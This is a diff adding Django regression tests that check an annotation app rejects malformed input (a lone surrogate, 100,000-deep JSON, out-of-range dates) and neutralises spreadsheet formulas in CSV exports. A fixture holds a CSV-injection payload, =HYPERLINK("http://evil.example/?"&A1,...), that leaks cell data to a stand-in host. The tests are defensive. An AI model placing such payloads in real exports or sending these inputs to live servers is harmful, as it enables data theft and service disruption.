@@ -1,0 +1,115 @@
+"""Issue 14's repro lines, each as a client test (DEBUG off: a server error is a 500
+response, not an exception)."""
+
+import csv
+import io
+import json
+
+import pytest
+from django.core.management import call_command
+from django.test import Client
+
+from tests import factories
+
+pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture
+def reader(db):
+    return factories.make_user("+1+1")
+
+
+@pytest.fixture
+def as_reader(reader):
+    client = Client(raise_request_exception=False)
+    client.force_login(reader)
+    return client
+
+
+@pytest.fixture
+def as_editor(db):
+    client = Client(raise_request_exception=False)
+    client.force_login(factories.make_editor())
+    return client
+
+
+def _annotation_json(article, **extra):
+    exact = article.paragraphs[0].split()[0]
+    start = article.body.index(exact)
+    return {"kind": "comment", "visibility": "public", "comment": "نص", "start": start, "end": start + len(exact),
+            "exact": exact, **extra}  # fmt: skip
+
+
+def test_json_annotation_with_a_lone_surrogate_is_a_400(as_reader, article):
+    body = json.dumps(_annotation_json(article, comment="\ud800"))  # ASCII: "\\ud800"
+    response = as_reader.post(
+        f"/articles/{article.pk}/annotations/", body, content_type="application/json"
+    )
+    assert response.status_code == 400
+    assert response.json()["error"] == "Request body contains a lone surrogate escape."
+    assert not article.annotations.exists()
+
+
+def test_json_annotation_nested_100000_deep_is_a_400(as_reader, article):
+    body = '{"kind": ' + "[" * 100_000 + "]" * 100_000 + "}"
+    response = as_reader.post(
+        f"/articles/{article.pk}/annotations/", body, content_type="application/json"
+    )
+    assert response.status_code == 400
+    assert "متداخل" in response.json()["errors"][0]
+
+
+def test_a_valid_json_annotation_still_works(as_reader, article):
+    response = as_reader.post(
+        f"/articles/{article.pk}/annotations/",
+        json.dumps(_annotation_json(article, tags=["أ", "ب"])),
+        content_type="application/json",
+    )
+    assert response.status_code == 201, response.content.decode()
+
+
+@pytest.mark.parametrize("url", ["/archive/99999999999999999999/", "/archive/2024/99999999999999999999/", "/archive/0/", "/archive/2024/13/"])  # fmt: skip
+def test_an_archive_year_out_of_range_is_a_404(client, url, db):
+    client.raise_request_exception = False
+    assert client.get(url).status_code == 404
+
+
+@pytest.mark.parametrize("path", ["/editor/claims/", "/editor/claims/export.csv"])
+@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01"])
+def test_claims_queue_far_dates_are_field_errors_not_a_500(as_editor, path, day):
+    for name in ("date_to", "date_from"):
+        response = as_editor.get(path, {name: day})
+        assert response.status_code == 200, (path, name)
+    page = as_editor.get("/editor/claims/", {"date_to": "9999-12-31"}).content.decode()
+    assert "اختر تاريخًا بين عامي 1800 و2999." in page
+
+
+def _formula_cells(text: str) -> list[str]:
+    return [
+        cell
+        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff")))
+        for cell in row
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+    ]
+
+
+@pytest.fixture
+def hostile_annotation(reader, article):
+    return factories.annotate(
+        article, reader, article.paragraphs[0].split()[0], kind="comment",
+        comment='=HYPERLINK("http://evil.example/?"&A1,"x")',
+    )  # fmt: skip
+
+
+def test_my_annotations_csv_is_formula_safe(as_reader, hostile_annotation):
+    response = as_reader.get("/annotations/mine/export.csv")
+    text = response.content.decode()
+    assert _formula_cells(text) == []
+    assert "'=HYPERLINK(" in text and "'+1+1" in text
+
+
+def test_export_annotations_csv_is_formula_safe(hostile_annotation, capsys):
+    call_command("export_annotations", "--format", "csv")
+    text = capsys.readouterr().out
+    assert _formula_cells(text) == []
+    assert "'=HYPERLINK(" in text and "'+1+1" in text
